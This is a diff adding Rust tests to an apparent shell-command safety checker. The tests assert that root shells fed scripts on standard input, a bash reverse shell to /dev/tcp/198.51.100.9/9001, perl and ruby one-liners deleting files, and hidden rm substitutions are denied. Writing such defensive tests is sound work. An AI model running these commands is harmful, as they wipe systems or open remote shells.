@@ -416,3 +416,61 @@ fn analysis_lists_the_commands_it_found() {
             .complete
     );
 }
+
+#[test]
+fn programs_fed_on_standard_input_are_analysed() {
+    // a script given to a root shell on standard input runs like `sudo bash -c SCRIPT`
+    for cmd in [
+        "sudo -s <<END\nrm -rf /\nEND",
+        "sudo -i <<< 'rm -rf /'",
+        "echo 'rm -rf /' | su",
+        "printf 'reboot\\n' | sudo -s",
+        "echo reboot | doas -s",
+    ] {
+        assert_eq!(decision(cmd), Decision::Deny, "{cmd}");
+    }
+    // the indirection itself goes to the reviewer, the harmless program does not deny
+    let a = analyse("echo ls | bash");
+    assert_eq!(a.decision, Decision::Ask, "{a:?}");
+    assert_eq!(a.tier, Tier::Low, "{a:?}");
+    assert_eq!(decision("echo \"$CMD\" | bash"), Decision::Ask);
+    assert_eq!(decision("su --help"), Decision::Allow);
+}
+
+#[test]
+fn duplicating_output_to_a_file_is_a_write() {
+    assert_eq!(
+        decision("bash -i >& /dev/tcp/198.51.100.9/9001 0>&1"),
+        Decision::Deny
+    );
+    assert_eq!(decision("make >& ~/.bashrc"), Decision::Ask);
+    for cmd in [
+        "make >& build.log",
+        "ls 1>&2",
+        "echo x >&-",
+        "cmd 2>&1 >&3-",
+    ] {
+        assert_eq!(decision(cmd), Decision::Allow, "{cmd}");
+    }
+}
+
+#[test]
+fn interpreter_options_with_attached_values_do_not_hide_the_code() {
+    for cmd in [
+        "perl -MLWP::Simple -e 'system(\"rm -rf /\")'",
+        "perl -Ilib -Mstrict -e 'unlink(\"/etc/passwd\")'",
+        "ruby -rfileutils -e 'FileUtils.rm_rf(\"/\")'",
+    ] {
+        assert_eq!(decision(cmd), Decision::Deny, "{cmd}");
+    }
+    assert_eq!(decision("python3 -mhttp.server"), Decision::Allow);
+}
+
+#[test]
+fn constant_echo_substitutions_are_resolved() {
+    assert_eq!(decision("$(echo rm) -rf /"), Decision::Deny);
+    assert_eq!(decision("`echo rm` -rf /"), Decision::Deny);
+    let a = analyse("$(echo ls)");
+    assert_eq!(a.decision, Decision::Allow, "{a:?}");
+    assert!(codes("$(cat cmd.txt) x").contains(&ReasonCode::DynamicCode));
+}
